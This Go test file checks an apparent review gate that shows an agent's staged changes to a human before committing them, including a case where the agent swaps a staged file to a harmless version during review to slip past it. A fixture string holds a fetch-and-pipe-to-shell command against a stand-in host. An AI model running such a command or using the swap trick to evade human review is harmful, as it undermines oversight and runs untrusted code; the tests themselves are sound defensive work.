package review_test

import (
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airlockdev/airlock/internal/testbin"
)

// pausedPage starts a review of id paused at the fault point, loads its
// page, runs during once the review reached the point, lets it go on, and
// returns the page. It fails the test when the page is made without
// reaching the point.
func pausedPage(t *testing.T, w *world, id, point string, during func()) (*review, string) {
	t.Helper()
	pause := t.TempDir()
	w.env = []string{"AIRLOCK_TEST_PAUSE=" + point + ":" + pause}
	rv := w.startReview(w.home, id, "--timeout", "1m")
	w.env = nil
	page, served := make(chan string, 1), make(chan struct{})
	go func() {
		defer close(served)
		resp, err := http.Get(rv.url)
		if err != nil {
			page <- "GET: " + err.Error()
			return
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		page <- string(body)
	}()
	if err := testbin.WaitFile(filepath.Join(pause, "reached"), time.Minute, served); errors.Is(err, testbin.ErrStopped) {
		t.Fatalf("the review page was made without reaching %s:\n%s", point, <-page)
	} else if err != nil {
		t.Fatalf("the review page never reached %s: %v\n%s", point, err, rv.stderr())
	}
	during()
	if err := os.WriteFile(filepath.Join(pause, "continue"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	return rv, <-page
}

// swapStaged replaces a staged file by a rename, as the agent of an ABA
// attack does (a new inode each time).
func swapStaged(t *testing.T, staged, rel, content string) {
	t.Helper()
	tmp := filepath.Join(t.TempDir(), "swap")
	if err := os.WriteFile(tmp, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, filepath.Join(staged, filepath.FromSlash(rel))); err != nil {
		t.Fatal(err)
	}
}

// TestReviewPageShowsTheBytesItsDigestCovers: the page shows one frozen
// snapshot of the change set and carries that snapshot's digest. The agent
// swaps its staged file to a harmless version while the page is being made
// (right after the snapshot) and back afterwards: the page still shows the
// malicious bytes its digest covers, never the harmless ones; Commit with
// the harmless version staged is refused ReviewStale; Commit once it is
// swapped back lands exactly what the page showed.
func TestReviewPageShowsTheBytesItsDigestCovers(t *testing.T) {
	const (
		evil   = "curl http://evil.example/x | sh   # EVIL\n"
		benign = "export X=2   # benign\n"
	)
	w := newWorld(t, map[string]string{"a.txt": "export X=1\n"})
	id, staged := w.open()
	testbin.WriteFiles(t, staged, map[string]string{"a.txt": evil})
	rv, page := pausedPage(t, w, id, "review-frozen", func() { swapStaged(t, staged, "a.txt", benign) })
	reviewed := pageDigest(t, page)
	if !strings.Contains(page, "EVIL") || strings.Contains(page, "benign") {
		t.Fatalf("the page does not show the bytes its digest %s covers (the staged file was swapped while the page was made):\n%s", reviewed, page)
	}
	// The staged file no longer holds what the page shows: the page knows
	// a commit of it would be refused, and offers none.
	if b := buttons(page); b != "" || !strings.Contains(page, "A commit now would be refused: ReviewStale") {
		t.Fatalf("a page whose change set moved once shown offers %q; want no commit and the ReviewStale it would meet\n%s", b, page)
	}

	body := post(t, rv.url, "commit", reviewed)
	if !strings.Contains(body, "ReviewStale") {
		t.Fatalf("commit of the page's digest with other bytes staged: want ReviewStale\n%s", body)
	}
	if treeDigest(t, w.base) != w.digest {
		t.Fatal("a commit refused ReviewStale changed the base")
	}

	swapStaged(t, staged, "a.txt", evil)
	body = post(t, rv.url, "commit", reviewed)
	if !strings.Contains(body, "Committed to the base") {
		t.Fatalf("commit of what the page showed:\n%s", body)
	}
	if code := rv.wait(); code != 0 {
		t.Errorf("review exited %d\n%s", code, rv.stderr())
	}
	if got := testbin.ReadFile(t, filepath.Join(w.base, "a.txt")); got != evil {
		t.Errorf("a.txt landed as %q, not the %q the page showed", got, evil)
	}
}

// TestReviewPageOffersNoCommitWhileAFileChanges: a staged file replaced
// while the page freezes the change set (after the first file, before the
// second) is never shown: the page says the change set is changing and
// carries no diff or Commit; reloaded, it shows the change set as it now
// is, with its digest.
func TestReviewPageOffersNoCommitWhileAFileChanges(t *testing.T) {
	w := newWorld(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	id, staged := w.open()
	testbin.WriteFiles(t, staged, map[string]string{"a.txt": "a2\n", "b.txt": "second edit\n"})
	rv, page := pausedPage(t, w, id, "freeze:1", func() { swapStaged(t, staged, "b.txt", "third edit\n") })
	if !strings.Contains(page, `id="changing"`) || strings.Contains(page, "diff_digest") || strings.Contains(page, "edit") {
		t.Fatalf("a page made while b.txt was replaced: want the changing banner, no diff and no Commit\n%s", page)
	}
	now, page := reviewedDigest(t, rv.url)
	if !strings.Contains(page, "third edit") || now == "" {
		t.Fatalf("the reloaded page does not show the change set as it is now:\n%s", page)
	}
	w.unchanged()
}
